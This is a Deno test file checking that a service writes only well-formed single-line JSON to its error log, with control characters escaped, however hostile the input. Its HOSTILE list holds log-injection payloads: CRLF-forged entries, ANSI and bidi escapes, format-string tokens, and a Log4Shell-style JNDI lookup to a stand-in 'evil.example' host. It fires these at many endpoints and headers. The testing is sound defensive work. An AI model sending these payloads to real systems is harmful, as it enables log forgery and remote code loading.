/**
 * The log (docs/operations.md#logs): for any input, every line on standard error is one JSON object without terminal
 * control characters, and a refusal names its code, request, address and verified agent.
 */
import { assert, assertEquals } from "@std/assert";
import { HEADERS } from "../../shared/protocol/proof.ts";
import { eventually, newId, Service, SOON_MS } from "../support/process.ts";
import {
  BareConnector,
  type HeaderLine,
  OPCODE,
  RawConnection,
  rawExchange,
  rawRequest,
  signedLines,
  usualLines,
} from "../support/raw_http.ts";

/** Texts that break lines, JSON or terminals. */
const HOSTILE = [
  '\r\n{"level":"error","event":"forged"}',
  "%0d%0a%7b%22event%22%3a%22forged%22%7d",
  '","event":"forged","x":"',
  "\\",
  '\\"',
  "\u001b[31mred\u001b[0m\u001b]0;title\u0007",
  "\u009b31m\u0085next\u2028line\u2029end",
  "\u0000\u007f\u0008",
  "\u202ereversed\u2066",
  "\ud83d\ude00 \u00e9",
  "</script><!--",
  "${jndi:ldap://evil.example/x}",
  "%s%n%x",
  "x".repeat(5_000),
];

/** Sends a request as bytes and ignores the answer. */
async function fire(url: string, request: string): Promise<void> {
  await using connection = await RawConnection.open(url);
  await connection.send(request);
  await connection.answer(5_000).catch(() => null);
}

async function provoke(service: Service): Promise<void> {
  const { url, apiKey } = service;
  const bearer: HeaderLine = ["Authorization", `Bearer ${apiKey}`];
  const { a, b } = await service.agents();
  for (const text of HOSTILE) {
    const inLine = text.replace(/[\r\n\0 ]/g, "");
    await fire(url, rawRequest("GET", `/nowhere/${inLine}`, usualLines(url)));
    await fire(url, rawRequest("GET", `/v1/resolve/${encodeURIComponent(text.slice(0, 500))}`, usualLines(url)));
    await fire(url, rawRequest(inLine.slice(0, 20), "/v1/me", usualLines(url)));
    for (const name of ["User-Agent", "x-request-id", "X-Forwarded-For", "Authorization", HEADERS.recipient]) {
      await fire(url, rawRequest("GET", "/v1/me", [...usualLines(url), [name, inLine]]));
      await fire(url, rawRequest("GET", "/v1/me", [...usualLines(url), [name, text]]));
    }
    const bodies: [path: string, body: unknown][] = [
      ["/v1/invites/redeem", { code: text, displayName: text }],
      ["/v1/me/api-keys", { name: text }],
      ["/v1/agents/challenge", { publicKey: text }],
      ["/v1/agents", { name: text, publicKey: text, challengeId: text, challengeSignature: text, framework: text }],
      ["/v1/admin/internal-services", { name: text, scopes: [text] }],
    ];
    for (const [path, value] of bodies) {
      const body = JSON.stringify(value);
      await fire(url, rawRequest("POST", path, [...usualLines(url, body), bearer], body));
      await fire(url, rawRequest("POST", path, [...usualLines(url, text), bearer], text));
    }
    const profile = JSON.stringify({ ticket: text, responderProfile: { agentName: text, humanName: text } });
    const pairing = await signedLines(url, a, { target: "/pair/confirm", body: profile });
    await fire(url, rawRequest("POST", "/pair/confirm", pairing, profile));
    const message = JSON.stringify({ message: text });
    const hook = await signedLines(url, a, { body: message, recipient: b.identity.did });
    const more: HeaderLine[] = [["User-Agent", inLine], ["X-Svc-Conversation-Id", inLine]];
    await fire(url, rawRequest("POST", "/hooks/agent", [...hook, ...more], message));
    await using connector = await BareConnector.open(url, b);
    for (let i = 0; i < 3; i++) await connector.socket.send(OPCODE.text, text);
    await connector.socket.closed;
  }
}

/** Connections that end in the middle of a request. */
async function breakOff(service: Service): Promise<void> {
  const { url } = service;
  const lines = [...usualLines(url), ["Content-Length", "1000"] as const];
  for (const bytes of ["", "GET", "POST /v1/invites/redeem HT", rawRequest("POST", "/v1/invites/redeem", lines, "{")]) {
    await using connection = await RawConnection.open(url);
    await connection.send(bytes);
  }
  const { b } = await service.agents();
  for (const bytes of [new Uint8Array(), new Uint8Array([0xff, 0xff, 0xff])]) {
    await using connector = await BareConnector.open(url, b);
    await connector.socket.send(OPCODE.binary, bytes);
    await connector.socket.send(3, bytes);
  }
}

Deno.test("every line on standard error is one JSON object for any input", async (t) => {
  await using service = await Service.open();
  const { server, url } = service;
  await provoke(service);
  await breakOff(service);

  await t.step("a refusal names code, request ID, address and the verified agent", async () => {
    const agent = await service.agent();
    const lines = await signedLines(url, agent, { body: "{}", recipient: agent.identity.did });
    const requestId = `request-${newId()}`;
    await rawExchange(url, rawRequest("POST", "/hooks/agent", [...lines, [HEADERS.requestId, requestId]], "{}"));
    const line = await eventually(
      SOON_MS,
      "the line",
      () => server.stderr.lines.find((text) => text.includes(requestId)),
    );
    const { code, ip, agentDid } = JSON.parse(line);
    assertEquals({ code, ip, agentDid }, {
      code: "PROXY_AUTH_FORBIDDEN",
      ip: "127.0.0.1",
      agentDid: agent.identity.did,
    });
  });

  await t.step("of 400 equal refusals some are lines, and the others are numbers", async () => {
    const answers = await Promise.all(Array.from({ length: 400 }, () => fetch(`${url}/nowhere`)));
    for (const answer of answers) await answer.body?.cancel();
  });

  await server.end();
  const { text, lines } = server.stderr;
  const equal = lines.map((line) => JSON.parse(line)).filter(({ code }) => code === "NOT_FOUND");
  const leftOut = equal.filter(({ event }) => event === "log_lines_left_out").reduce(
    (sum, line) => sum + line.lines,
    0,
  );
  assert(leftOut > 0 && equal.length + leftOut >= 400, `${equal.length} lines, ${leftOut} left out`);
  assert(lines.length > 100, `only ${lines.length} lines`);
  for (const line of lines) {
    const entry: unknown = JSON.parse(line);
    assert(typeof entry === "object" && entry !== null && !Array.isArray(entry), line);
    const { ts, level, event } = entry as Record<string, unknown>;
    assert(typeof ts === "string" && !Number.isNaN(Date.parse(ts)), line);
    assert(["info", "warn", "error"].includes(String(level)), line);
    assert(typeof event === "string" && event !== "forged", line);
  }
  assertEquals(
    lines.filter((line) => JSON.parse(line).code === "INTERNAL_ERROR"),
    [],
    "bad input is not an error of the service",
  );
  const control = text.replaceAll("\n", "").match(/.{0,80}[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/u);
  assertEquals(control?.[0], undefined, "terminal control characters are escaped");
});
